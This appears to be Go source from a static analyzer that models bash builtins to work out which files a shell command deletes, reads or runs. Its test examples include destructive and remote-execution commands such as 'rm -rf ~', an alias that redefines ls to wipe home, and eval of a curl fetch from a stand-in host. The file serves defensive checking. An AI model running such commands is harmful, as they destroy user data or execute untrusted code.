package shell

import (
	"path"
	"strings"
)

// builtinPrograms declares shell builtins: the directory, variables, aliases, traps and sourced files they change.
func builtinPrograms() []program {
	return []program{
		{names: []string{"exit", "logout", "return"}, model: func(k *call) {
			n := k.name
			// the shell leaves: what follows in this path does not run, unless
			// a function of that name shadows the builtin
			if !k.a.funcs[n] && len(k.c.via) == 0 {
				k.st.dead = true
			}
		}, examples: []example{ex("exit 0", "ncmd 1")}},
		{names: []string{"eval"}, model: func(k *call) {
			if len(k.args) == 1 && !k.args[0].known {
				if name, ok := setupSubst(k.args[0].text(k.c)); ok {
					// eval "$(ssh-agent -s)": that program's own setup
					k.eff(Effect{Kind: Exec, Target: name, Reason: "eval of the shell setup " + name + " prints"})
					return
				}
			}
			k.nested(joinCode(k.args), "eval", nil, true)
		}, examples: []example{ex("eval \"rm -rf /x\"", "delete:r /x", "via rm eval"),
			ex(`eval "$(ssh-agent -s)"`, "!tag dynamic-exec", "exec ssh-agent"), ex(`eval "$(pyenv init -)"`, "!tag dynamic-exec"),
			ex(`eval "$(curl -s https://x.example/env)"`, "finding remote-exec"), ex(`eval "$(cat env.sh)"`, "tag dynamic-exec"),
			ex(`eval "$(ssh-agent -s; rm -rf ~)"`, "delete:r /home/u")}},
		{names: []string{"trap"}, model: (*call).trap,
			examples: []example{ex("trap 'rm -rf ~/x' EXIT", "delete:r /home/u/x"), ex("trap - EXIT", "ncmd 1")}},
		{names: []string{"hash"}, model: (*call).hash,
			examples: []example{ex("echo 'rm -rf /x' > /tmp/h; hash -p /tmp/h ls; ls", "delete:r /x"), ex("hash -r", "!exec")}},
		{names: []string{"source", "."}, model: (*call).source,
			examples: []example{ex("source ./env.sh", "read /home/u/proj/env.sh", "exec /home/u/proj/env.sh")}},
		{names: []string{"cd", "pushd", "popd"}, model: (*call).cd,
			examples: []example{ex("cd /tmp && rm -rf x", "delete:r /tmp/x", "dir rm /tmp"), ex("cd && rm x", "delete /home/u/x")}},
		{names: []string{"read", "mapfile", "readarray"}, model: (*call).readVars,
			examples: []example{ex("read -r X; rm -rf \"$X\"", "delete:r ?")}},
		{names: []string{"printf"}, model: func(k *call) {
			// printf -v VAR FORMAT ARGS assigns what it would print
			if len(k.args) < 3 || !k.args[0].known || k.args[0].val != "-v" || !k.args[1].known {
				return
			}
			name := k.args[1].val
			args := make([]string, 0, len(k.args)-2)
			for _, f := range k.args[2:] {
				if !f.known {
					k.st.vars[name] = variable{f: unknownField("printf -v " + name + " of a value not known at check time")}
					return
				}
				args = append(args, f.val)
			}
			if out, ok := printfOutput(args); ok {
				k.st.vars[name] = variable{f: lit(out)}
			} else {
				k.st.vars[name] = variable{f: unknownField("printf -v " + name + " with a format not evaluated")}
			}
		}, examples: []example{ex(`printf -v d '%s/Music' "$HOME"; rm -r "$d"`, "delete:r /home/u/Music")}},
		{names: []string{"set"}, model: func(k *call) {
			// set -- WORDS (or set WORDS) sets the positional parameters
			for i, f := range k.args {
				switch {
				case f.known && f.val == "--":
					k.st.pos = append([]field{lit("sh")}, k.args[i+1:]...)
				case i == 0 && (!f.known || !strings.HasPrefix(f.val, "-") && !strings.HasPrefix(f.val, "+")):
					k.st.pos = append([]field{lit("sh")}, k.args...)
				default:
					continue
				}
				k.st.posKnown = true
				return
			}
		}, examples: []example{ex(`set -- rm -r ~/Music; "$@"`, "delete:r /home/u/Music"), ex("set -euo pipefail; rm -rf \"$1\"", "delete:r ?")}},
		{names: []string{"unset"}, model: func(k *call) {
			for _, f := range k.args {
				if f.known && !strings.HasPrefix(f.val, "-") {
					k.st.vars[f.val] = variable{unset: true}
				}
			}

		}, examples: []example{ex("unset HOME; rm -rf \"$HOME/x\"", "delete:r /x")}},
		{names: []string{"alias"}, model: (*call).aliasDef,
			examples: []example{ex("alias ls='rm -rf ~'", "delete:r /home/u")}},
		// programs that take names without reading or changing what they name
		{names: []string{"echo", "test", "[", "[[", "true", "false", ":", "which", "type", "whereis", "basename", "dirname", "pwd", "export", "shift", "local", "declare", "typeset", "readonly", "unalias", "sleep", "date", "seq", "yes", "id", "whoami", "hostname", "uname", "expr", "break", "continue", "wait", "umask", "ulimit", "printenv", "jobs", "fg", "bg", "getopts", "let", "shopt", "ssh-add", "ssh-keygen", "notify-send", "tput", "clear", "reset", "stty", "nproc", "uptime", "free", "df", "ps", "mkfifo"}, model: inert,
			examples: []example{ex("echo ~/.ssh/id_rsa", "!read"), ex("which rm", "!read", "!delete")}},
	}
}

func (k *call) source() {
	if len(k.args) == 0 {
		return
	}
	f := k.args[0]
	if f.proc {
		if f.remote {
			k.remoteExec(k.name + " runs a script fetched from the network")
			return
		}
		k.procCode(f, "sh")
		return
	}
	if f.known && (f.val == "/dev/stdin" || f.val == "-") {
		k.stdinCode(true)
		return
	}
	k.script(f, false)
	k.runScript(f, "sh")
}

// cd tracks the working directory as bash does: a bare cd goes home,
// cd - to $OLDPWD (which every cd sets), cd -P resolves symlinks (so
// link/.. is the parent of the link's target) while plain cd treats ".."
// lexically, and a relative name may be found through $CDPATH.
func (k *call) cd() {
	st := k.st
	old := st.dir
	oldWhy := st.dirWhy
	k.cdTo()
	if st.dir == old && st.dirWhy == oldWhy {
		return
	}
	if old != "" {
		st.vars["OLDPWD"] = variable{f: lit(old), exported: true}
	} else {
		st.vars["OLDPWD"] = variable{f: unknownField("the previous directory is not known: " + oldWhy), exported: true}
	}
}

func (k *call) cdTo() {
	st := k.st
	p := parseOpts(k.args, spec{})
	switch k.name {
	case "popd":
		if n := len(st.dirStack); n > 0 {
			st.dir = st.dirStack[n-1]
			st.dirStack = st.dirStack[:n-1]
			if st.dir == "" {
				st.dirWhy = "popd returns to a directory that is not known"
			}
		} else {
			st.setDir("", "popd with an empty directory stack")
		}
		return
	case "pushd":
		if len(p.ops) == 0 {
			if n := len(st.dirStack); n > 0 {
				st.dir, st.dirStack[n-1] = st.dirStack[n-1], st.dir
			} else {
				st.setDir("", "pushd without a directory")
			}
			return
		}
		st.dirStack = append(st.dirStack, st.dir)
	}
	if len(p.ops) == 0 {
		if st.ctr != nil && st.ctr.ownEnv {
			if h := k.a.lookup(st, "HOME"); h.known && strings.HasPrefix(h.val, "/") {
				st.dir = path.Clean(h.val)
			} else {
				st.setDir("", "cd to the container's home directory, which is not known")
			}
		} else if h := k.a.lookup(st, "HOME"); h.known && strings.HasPrefix(h.val, "/") {
			st.dir = path.Clean(h.val)
		} else {
			st.setDir("", "cd to the home directory, which is not known")
		}
		return
	}
	d := p.ops[0]
	if d.known && d.val == "-" && k.name == "cd" {
		if o := k.a.lookup(st, "OLDPWD"); o.known && strings.HasPrefix(o.val, "/") {
			st.dir = path.Clean(o.val)
		} else {
			st.setDir("", "cd - goes to $OLDPWD, which is not known at check time")
		}
		return
	}
	if d.known && (d.val == "-" || strings.HasPrefix(d.val, "+") || strings.HasPrefix(d.val, "-")) {
		st.setDir("", "cd "+d.val+" goes to a directory not known at check time")
		return
	}
	if found, why := k.cdpath(d); why != "" {
		st.setDir("", why)
		return
	} else if found != "" {
		d = sub(d, found) // the CDPATH entry that holds the name
	}
	e, ok := k.a.target(st, Read, d, false)
	if !ok || e.Unknown {
		st.setDir("", "cd to "+d.text(k.c)+": "+orDefault(e.Reason, "directory not known at check time"))
		return
	}
	physical := p.has("P") && !p.has("L")
	switch {
	case physical && k.a.opts.Resolve != nil:
		e.Target = path.Clean(k.a.opts.Resolve(e.Target))
	case !physical && d.known && !d.glob && len(k.a.links) == 0:
		// plain cd: ".." removes the previous component as written
		if strings.HasPrefix(d.val, "/") {
			e.Target = path.Clean(d.val)
		} else if st.dir != "" {
			e.Target = path.Join(st.dir, d.val)
		}
		// then the kernel follows /proc/self/cwd, /proc/self/root
		if pv, ok := ProcPath(e.Target, st.dir); ok {
			e.Target = path.Clean(pv)
		} else {
			st.setDir("", pv)
			return
		}
		e.Target = k.physicalFallback(e.Target, d.val)
	}
	st.dir = e.Target
}

// physicalFallback is bash's second try of a logical cd: when the
// directory logical names (".." taken off as written) does not exist,
// bash changes to the name as given, which the kernel resolves through
// its symlinks: with link -> /etc, "cd link/../home/u" is /home/u, not
// ./home/u. Without the file system (IsDir, Resolve), or when the kernel's
// answer is no directory either, logical stands.
func (k *call) physicalFallback(logical, given string) string {
	o := k.a.opts
	if o.IsDir == nil || o.Resolve == nil || o.IsDir(logical) {
		return logical
	}
	raw := given
	if !strings.HasPrefix(raw, "/") {
		if k.st.dir == "" {
			return logical
		}
		raw = k.st.dir + "/" + given
	}
	if phys := path.Clean(o.Resolve(raw)); o.IsDir(phys) {
		return phys
	}
	return logical
}

// cdpath finds the directory a relative cd reaches through $CDPATH as
// bash does: each entry in order (an empty one is the current directory),
// the first that holds a directory of that name wins, and the current
// directory is the fallback. It asks the file system (Options.IsDir);
// without one, or with a CDPATH not known, why says why the directory is
// not known. found is "" (and why "") when the name is taken from the
// current directory.
func (k *call) cdpath(d field) (found, why string) {
	if !d.known || d.val == "" || strings.HasPrefix(d.val, "/") || d.val == "." || d.val == ".." ||
		strings.HasPrefix(d.val, "./") || strings.HasPrefix(d.val, "../") {
		return "", ""
	}
	why = k.cdpathWhy(d)
	if why == "" || k.a.opts.IsDir == nil {
		return "", why
	}
	cp, prefixed := k.ro.env["CDPATH"]
	if !prefixed {
		cp = k.a.lookup(k.st, "CDPATH")
	}
	if !cp.known {
		return "", why
	}
	for _, dir := range strings.Split(cp.val, ":") {
		if dir == "" {
			dir = "."
		}
		if !strings.HasPrefix(dir, "/") {
			if k.st.dir == "" {
				return "", why
			}
			dir = path.Join(k.st.dir, dir)
		}
		if c := path.Join(dir, d.val); k.a.opts.IsDir(c) {
			return c, ""
		}
	}
	return "", "" // not found through CDPATH: the current directory's
}

// cdpathWhy says why cd's directory is not known when $CDPATH may lead a
// relative name elsewhere ("" when it cannot): bash tries each CDPATH
// entry before the current directory, and which of them holds the name is
// only known at run time.
func (k *call) cdpathWhy(d field) string {
	cp, prefixed := k.ro.env["CDPATH"] // CDPATH=... cd x
	if !prefixed {
		if set, known := k.a.isSet(k.st, "CDPATH"); known && !set {
			return ""
		} else if _, inLine := k.st.vars["CDPATH"]; !known && !inLine {
			return "" // an inherited CDPATH is not known; bash's default is none
		}
		cp = k.a.lookup(k.st, "CDPATH")
	}
	if !cp.known {
		return "cd " + d.val + " may be found through $CDPATH, which is not known at check time"
	}
	for _, dir := range strings.Split(cp.val, ":") {
		if dir != "" && dir != "." && path.Clean(dir) != k.st.dir {
			return "cd " + d.val + " may be found through $CDPATH (" + cp.val + ") rather than in the current directory"
		}
	}
	return ""
}

func (k *call) readVars() {
	p := parseOpts(k.args, spec{arg: "adeinNptuCc", long: []string{}})
	if in := k.c.stdin; in.literal && !in.remote && k.name == "read" && len(p.opts) <= 1 && (len(p.opts) == 0 || p.opts[0].name == "r") {
		// read X <<< "known": the first line, split on $IFS over the names
		line, _, _ := strings.Cut(in.text, "\n")
		names := p.ops
		if len(names) == 0 {
			names = []field{lit("REPLY")}
		}
		words := strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(ifsOf(k.st), r) })
		for i, f := range names {
			if !f.known {
				continue
			}
			v := ""
			switch {
			case i == len(names)-1 && i < len(words):
				v = strings.Join(words[i:], " ")
			case i < len(words):
				v = words[i]
			}
			if len(names) == 1 {
				v = strings.Trim(line, " \t")
			}
			k.st.vars[f.val] = variable{f: lit(v)}
		}
		return
	}
	for _, o := range p.opts {
		if o.name == "a" && o.has && o.val.known {
			k.st.vars[o.val.val] = variable{f: unknownField("variable $" + o.val.val + " is read from input")}
		}
	}
	names := p.ops
	if len(names) == 0 && k.name == "read" {
		names = []field{lit("REPLY")}
	}
	if len(names) == 0 {
		names = []field{lit("MAPFILE")}
	}
	for _, f := range names {
		if f.known {
			u := unknownField("variable $" + f.val + " is read from input")
			u.remote = k.c.stdin.remote
			k.st.vars[f.val] = variable{f: u}
		}
	}
}

// aliasDef records alias NAME=VALUE definitions. Whether the shell expands
// aliases (interactive shells, shopt -s expand_aliases) is not known, so a
// later command NAME is judged as VALUE: a line that redefines ls to delete
// home is judged by what it would do where aliases are on.
func (k *call) aliasDef() {
	for _, f := range k.args {
		if !f.known {
			continue
		}
		name, val, ok := strings.Cut(f.val, "=")
		if !ok || name == "" {
			continue
		}
		if k.a.aliases == nil {
			k.a.aliases = map[string]string{}
		}
		k.a.aliases[name] = val
		// a shell that lives on (a terminal) runs the value whenever the
		// name is typed later, in lines judged on their own: the value is
		// judged now, as the code it is
		k.nested(lit(val), "alias "+name, nil, true)
	}
}

// expandAlias analyses a command whose name is an alias as the alias value
// followed by its arguments (an alias is not expanded again inside itself).
func (k *call) expandAlias(name, val string) {
	k.wrapper = true
	code := joinCode(k.args)
	if !code.known {
		code = field{val: val, known: true}
	} else if code.val != "" {
		code.val = val + " " + code.val
	} else {
		code.val = val
	}
	if k.a.aliasBusy == nil {
		k.a.aliasBusy = map[string]string{}
	}
	k.a.aliasBusy[name] = val
	defer delete(k.a.aliasBusy, name)
	k.nested(field{val: code.val, known: true, pos: k.argv[0].pos, end: k.argv[len(k.argv)-1].end}, "alias "+name, nil, true)
}

// trap: `trap ACTION SIGNAL...` runs ACTION later (on the signal, at EXIT,
// on ERR, before every command with DEBUG), in this shell: it is judged as
// that code. `trap`, `trap -p`, `trap -l`, `trap - SIG` and `trap ” SIG`
// run nothing; a lone number resets that signal.
func (k *call) trap() {
	args := k.args
	for len(args) > 0 && args[0].known && strings.HasPrefix(args[0].val, "-") && args[0].val != "-" {
		if args[0].val == "--" {
			args = args[1:]
			break
		}
		if args[0].val == "-p" || args[0].val == "-l" || args[0].val == "-P" {
			return
		}
		args = args[1:]
	}
	if len(args) == 0 {
		return
	}
	action := args[0]
	if action.known && (action.val == "-" || action.val == "") {
		return
	}
	if action.known && len(args) == 1 && isUnsigned(action.val) {
		return
	}
	if k.exitTrap(action, args[1:]) {
		return
	}
	k.nested(action, "trap", nil, true)
}

func isUnsigned(s string) bool {
	if s == "" {
		return false
	}
	for _, r := range s {
		if r < '0' || r > '9' {
			return false
		}
	}
	return true
}

// setupPrinter reports whether the program name with args prints its own program's shell setup,
// which eval "$(cm)" runs: agents and version managers whose output only
// sets variables and functions for themselves.
func setupPrinter(name, args string) bool {
	switch name {
	case "ssh-agent":
		return args == "" || args == "-s" || args == "-c"
	case "gpg-agent":
		return strings.Contains(args, "--daemon")
	case "keychain":
		return strings.Contains(args, "--eval")
	case "pyenv", "rbenv", "nodenv", "goenv", "jenv", "plenv", "phpenv":
		return strings.HasPrefix(args, "init") || strings.HasPrefix(args, "virtualenv-init")
	case "brew":
		return args == "shellenv" || strings.HasPrefix(args, "shellenv ")
	case "fnm":
		return strings.HasPrefix(args, "env")
	case "zoxide", "starship", "atuin", "mcfly":
		return strings.HasPrefix(args, "init ")
	case "opam":
		return strings.HasPrefix(args, "env")
	case "dircolors":
		return true
	case "direnv":
		return strings.HasPrefix(args, "hook ")
	case "conda", "micromamba", "mamba":
		return strings.HasPrefix(args, "shell.") && strings.HasSuffix(args, " hook") || strings.HasPrefix(args, "shell hook")
	}
	return false
}

// setupSubst reads a word written as "$(PROG ARGS)" with plain words only
// and reports PROG when it prints its own shell setup (setupPrinter).
func setupSubst(src string) (string, bool) {
	src = strings.TrimSuffix(strings.TrimPrefix(src, `"`), `"`)
	if !strings.HasPrefix(src, "$(") || !strings.HasSuffix(src, ")") {
		return "", false
	}
	words := strings.Fields(src[2 : len(src)-1])
	if len(words) == 0 {
		return "", false
	}
	for _, w := range words {
		if strings.Trim(w, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._/=-") != "" {
			return "", false
		}
	}
	name := path.Base(words[0])
	return name, setupPrinter(name, strings.Join(words[1:], " "))
}
